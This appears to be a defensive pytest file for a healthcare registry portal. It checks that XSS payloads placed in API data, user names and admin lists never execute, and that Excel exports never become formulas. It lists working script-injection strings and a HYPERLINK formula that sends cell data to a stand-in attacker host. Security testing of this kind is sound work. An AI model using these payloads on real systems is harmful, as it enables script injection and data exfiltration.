"""Text that would be a programme: sent by API and kept in master data, shown everywhere, never run.

Every page of the portal, and the lists of the admin that show what others wrote, are opened in
Chromium over one small world in which whatever may be text is hostile. Nothing of it runs, nothing
of it becomes a link, and every page carries a policy that would have stopped it.
"""

import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from gvr.core import cell
from gvr.queries.behorighet import databaskontext
from tests.factories import portal, regionen, webblasare
from tests.factories.portal import LOSENORD
from tests.factories.sandare import Sandare, besok, noon, open_region
from tests.factories.webblasare import Person

#: Each would set `window.elak` if it were taken for what it looks like.
ELAKA = (
    "<script>window.elak=1</script>",
    '"><img src=x onerror="window.elak=1">',
    "' autofocus onfocus='window.elak=1",
    "javascript:window.elak=1",
    "</script><svg onload=window.elak=1>",
    "{{constructor.constructor('window.elak=1')()}}",
)
LISTOR = (
    *("gvr_vardgivare", "gvr_enhet", "gvr_uppdrag", "gvr_avtalsomrade", "gvr_avtal", "gvr_kodverk"),
    *("gvr_kod", "gvr_maskinkonto", "gvr_vardkontakt", "gvr_avvisning", "gvr_leverans"),
    *("gvr_andring", "hej_kontaktlage", "ersmo_regelpaket", "hej_prislista", "auth_user"),
)
FORMEL = '=HYPERLINK("http://elak.example/?"&A1;"elak")'


def say_everywhere(sys_a):
    """Send each hostile text in every field of a contact that holds text; return the statuses."""
    statusar = set()
    for nr, elak in enumerate((*ELAKA, FORMEL)):
        grund = besok(f"E{nr}")
        for falt, varde in grund.items():
            trasig = [elak] if isinstance(varde, list) else elak
            svar = sys_a("POST", "vardkontakter", {**grund, falt: trasig})
            statusar.add(svar.status_code)
        statusar.add(sys_a("POST", "vardkontakter", grund).status_code)
        rattad = {**grund, "version": 2, "diagnoser": ["I110"], "orsak": elak}
        statusar.add(sys_a("PUT", f"vardkontakter/E{nr}", rattad).status_code)
        deltagande = {"id": elak, "enhet": elak, "dag": grund["dag"], "minuter": 10}
        statusar.add(sys_a("POST", "deltaganden", deltagande).status_code)
    return statusar


def poison():
    """Rename what the region and the providers name; return how many rows took it."""
    from ersattning.ersmo.models import Regelpaket  # noqa: PLC0415 - needs Django
    from ersattning.hej.models import Prislista  # noqa: PLC0415
    from gvr.models import (  # noqa: PLC0415
        Avtalsomrade,
        Enhet,
        Kod,
        Kodverk,
        Maskinkonto,
        Uppdrag,
        Vardgivare,
    )

    antal = 0
    for modell, falt in (
        (Vardgivare, "namn"),
        (Enhet, "namn"),
        (Uppdrag, "namn"),
        (Avtalsomrade, "namn"),
        (Maskinkonto, "namn"),
        (Kodverk, "namn"),
        (Kod, "text"),
        (Regelpaket, "namn"),
        (Prislista, "namn"),
    ):
        for nr, rad in enumerate(modell.objects.all()[:12]):
            elak = ELAKA[nr % len(ELAKA)]
            antal += modell.objects.filter(pk=rad.pk).update(**{falt: elak})
    return antal


@pytest.fixture(scope="module")
def varlden(egen_databas_modul):
    """What is open, by address, and who looks; nothing is asked of the database after this."""
    from avstamning.portal.urls import urlpatterns  # noqa: PLC0415 - needs Django
    from ersattning import kedja  # noqa: PLC0415
    from gvr.models import Enhet, Vardkontakt  # noqa: PLC0415

    with databaskontext(alla=True):
        vardgivare = open_region()
    statusar = say_everywhere(Sandare("token-A"))
    with databaskontext(alla=True):
        kontakter = list(Vardkontakt.objects.order_by("pk"))
        kedja.decide([k.pk for k in kontakter], at=noon())
        assert poison() > 10
        vera = portal.user("vera", ser=[vardgivare["A"]], grupper=["Vårdadministratör"])
        vera.first_name, vera.last_name = ELAKA[0], ELAKA[1]
        vera.save()
        anna = regionen.anna()
        anna.first_name = ELAKA[0]
        anna.set_password(LOSENORD)
        anna.save()
        enhet = Enhet.objects.filter(vardgivare=vardgivare["A"]).first()
    assert {201, 200} & statusar
    assert statusar <= {200, 201, 202, 400, 404, 409, 422}
    sidor = [
        reverse(f"portal:{vag.name}")
        for vag in urlpatterns
        if not vag.pattern.converters
        and vag.name not in {"logout", "sok", "rapp_sok"}
        and not vag.name.endswith("_excel")
    ]
    kontakt = reverse("portal:vag", args=[kontakter[0].uuid])
    sidor += [kontakt, *(f"{kontakt}{flik}/" for flik in ("versioner", "kvittenser", "meddelande"))]
    listor = [reverse(f"admin:{namn}_changelist") for namn in LISTOR]
    listor += [
        reverse("admin:index"),
        reverse("admin:gvr_enhet_change", args=[enhet.pk]),
        reverse("admin:gvr_enhet_history", args=[enhet.pk]),
        reverse("admin:gvr_vardkontakt_change", args=[kontakter[0].pk]),
    ]
    return {"vera": sidor, "anna": listor}


@pytest.fixture(scope="module")
def server(varlden):
    with webblasare.serve(noon()) as adress:
        yield adress


@pytest.fixture(scope="module")
def browser(chromium, server):
    with webblasare.chrome(chromium) as chrome:
        yield chrome


def seen(page):
    """Return whether nothing ran, how many elements it made, and whether the text is to be read."""
    return page.evaluate(
        """() => [window.elak === undefined,
        document.querySelectorAll('[href^="javascript:" i], [onerror], [onfocus], [onload]').length,
        document.body.innerText.includes('window.elak=1')]"""
    )


def looked_at(person, adresser):
    """Open every page; return what went wrong by address, and on how many hostile text stood."""
    fel, visade = {}, 0
    person.page.on("dialog", lambda ruta: (person.fel.append("en dialogruta"), ruta.dismiss()))
    for adress in adresser:
        person.fel.clear()
        svar = person.page.goto(adress, wait_until="load")
        if svar.status in (403, 404):
            continue
        brister = [text for text in person.fel if "status of 4" not in text]
        if "script-src" not in (csp := svar.headers.get("content-security-policy", "")):
            brister += [] if "default-src 'self'" in csp else ["ingen policy"]
        if "'unsafe-inline'" in csp.partition("script-src")[2].partition(";")[0]:
            brister.append("policyn släpper in skript i sidan")
        sett = seen(person.page)
        brister += [] if sett[0] else ["texten kördes"]
        brister += [f"{sett[1]} element blev till"] if sett[1] else []
        visade += sett[2]
        if brister:
            fel[adress] = brister
    return fel, visade


def test_the_eye_sees_what_runs_where_nothing_stops_it(browser):
    page = browser.new_page()

    page.set_content("".join(ELAKA) + '<a href="javascript:window.elak=1">x</a>')
    page.wait_for_function("window.elak === 1")

    assert seen(page)[:2] == [False, 3]
    page.close()


@pytest.mark.parametrize(("vem", "minst"), [("vera", 8), ("anna", 6)])
def test_no_page_runs_what_somebody_wrote(browser, server, varlden, vem, minst):
    person = Person(browser, server, vem)

    fel, visade = looked_at(person, varlden[vem])

    person.context.close()
    assert fel == {}
    assert visade >= minst, "the hostile text was hardly shown: this proves nothing"


def test_no_workbook_makes_a_formula_of_what_somebody_wrote(varlden):
    vera = Client()
    assert vera.login(username="vera", password=LOSENORD)

    svar = vera.get(reverse("portal:vardkontakter_excel"))

    bok = openpyxl.load_workbook(io.BytesIO(b"".join(svar)))
    rutor = [ruta for ark in bok for rad in ark.iter_rows() for ruta in rad if ruta.value]
    assert len(rutor) > 20
    assert [ruta.value for ruta in rutor if ruta.data_type == "f" or ruta.hyperlink] == []
    texter = [ruta.value for ruta in rutor if isinstance(ruta.value, str)]
    assert [text for text in texter if text.startswith(cell.FORMELTECKEN)] == []
